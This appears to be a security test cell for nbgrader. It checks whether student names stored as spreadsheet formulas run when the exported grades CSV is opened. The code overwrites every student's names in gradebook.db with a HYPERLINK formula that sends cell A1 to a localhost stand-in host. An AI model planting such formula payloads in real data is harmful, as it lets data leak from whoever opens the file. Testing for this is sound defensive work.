# Tries: Names in the gradebook become formulas that a spreadsheet runs when the exported CSV is opened.
# Trace: a field that begins with = and has OWNED-csv_formula_in_names, in gradebook.db or after nbgrader
#   export in grades.csv
# Wins against: none
# Uses: class_folder
# %% cell: q1_minimum
import sqlite3


formula = '=HYPERLINK("http://127.0.0.1/?"&A1,"OWNED-csv_formula_in_names")'
with sqlite3.connect(course() / "gradebook.db") as database:
    database.execute("UPDATE student SET first_name = ?, last_name = ?", (formula, formula))
